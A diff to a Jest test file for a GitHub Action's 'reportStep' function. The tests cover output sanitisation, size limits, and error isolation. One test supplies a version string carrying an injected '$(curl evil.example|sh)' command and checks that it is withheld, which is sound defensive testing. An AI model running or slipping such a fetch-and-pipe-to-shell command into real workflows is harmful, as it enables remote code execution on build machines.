@@ -136,6 +136,93 @@ describe('reportStep', () => {
     expect(errors()).toEqual([expect.objectContaining({ title: 'Build failed: two', message: 'two: ***' })]);
   });
 
+  it('checks every output: a version carrying a line break or `$(…)` is left empty, with a warning', async () => {
+    await reportStep(
+      { results: [{ project: 'one', outcome: 'success', version: '1.0\n$(curl evil.example|sh)' }], summary: [], outputs: {} },
+      { operation: 'wait', baseUrl: 'https://app.readthedocs.org' },
+      (text) => text,
+    );
+
+    expect(outputs().version).toBe('');
+    expect(JSON.parse(outputs().results!)).toEqual([expect.objectContaining({ project: 'one', version: null })]);
+    expect(stdout.annotations()).toEqual([
+      expect.objectContaining({ level: 'warning', title: 'Output withheld', message: expect.stringContaining('output `version`') }),
+    ]);
+    expect(process.exitCode).toBeUndefined();
+  });
+
+  it('an output past its bound is left empty with an error, the others all set, and the step is red', async () => {
+    await reportStep(
+      { results: [{ project: 'one', outcome: 'success' }], summary: [], outputs: { config: 'x'.repeat(600_000), plan: '[{' } },
+      { operation: 'export', baseUrl: 'https://app.readthedocs.org' },
+      (text) => text,
+    );
+
+    const set = outputs();
+    expect(Object.keys(set).sort()).toEqual([...OUTPUT_NAMES].sort());
+    expect(set).toMatchObject({ config: '', plan: '', success: 'true' });
+    expect(errors()).toEqual([
+      {
+        level: 'error',
+        title: 'Output too large',
+        message:
+          'Output `config` holds 600,000 characters, more than the 524,288 one output may hold (GitHub keeps at most 1 MB of outputs, counted in UTF-16); it is left empty',
+      },
+    ]);
+    expect(process.exitCode).toBe(1);
+  });
+
+  it('the summary stays under GitHub’s 1 MB, with a note of what was left out, whatever the text', async () => {
+    const sections = Array.from({ length: 40 }, (_, index) => `**section ${index}** ${'s'.repeat(100_000)}`);
+    await reportStep(
+      {
+        results: [
+          { project: 'one', outcome: 'failed', title: 'Build failed', reason: '`a'.repeat(300_000), summarySections: sections },
+          { project: 'two', outcome: 'success' },
+        ],
+        summary: ['**the step**'],
+        outputs: {},
+      },
+      { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
+      (text) => text,
+    );
+
+    const text = summary();
+    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(1000 * 1024);
+    expect(text).toContain('| one |');
+    expect(text).toContain('| two |');
+    expect(text).toContain('### Build failed: one');
+    expect(text).toContain('**the step**');
+    expect(text).toMatch(/\n_\d+ parts? of this summary left out: a job summary holds at most 1 MB\._\n$/);
+    // The annotation and the `results` output carry the reason's beginning and end, not all of it.
+    const [failure] = errors();
+    expect(failure!.title).toBe('Build failed: one');
+    expect(failure!.message.length).toBeLessThanOrEqual(16 * 1024);
+    expect(failure!.message).toMatch(/^`a`a[\s\S]*\n… 583,680 characters left out …\n[\s\S]*`a`a$/);
+    expect(JSON.parse(outputs().results!)[0].reason).toBe(failure!.message);
+    expect(process.exitCode).toBe(1);
+  });
+
+  it('a part of the report that throws costs none of the others: the outputs are set, the error says which part failed', async () => {
+    // A redactor that fails on the annotation's title only: a fault where no one foresaw one.
+    const redact = (text: string) => {
+      if (text.startsWith('Boom title')) throw new Error('the redactor broke');
+      return text;
+    };
+    await reportStep(
+      { results: [{ project: 'one', outcome: 'failed', title: 'Boom title', reason: 'one: exit 1' }], summary: [], outputs: {} },
+      { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
+      redact,
+    );
+
+    expect(Object.keys(outputs()).sort()).toEqual([...OUTPUT_NAMES].sort());
+    expect(errors()).toEqual([
+      { level: 'error', title: 'Report incomplete', message: 'The annotations could not be written: the redactor broke' },
+    ]);
+    expect(summary()).toContain('| one |');
+    expect(process.exitCode).toBe(1);
+  });
+
   it('a green report leaves the exit code alone and writes no summary without results', async () => {
     await reportStep({ results: [], summary: ['**unseen**'], outputs: {} }, undefined, (text) => text);
 
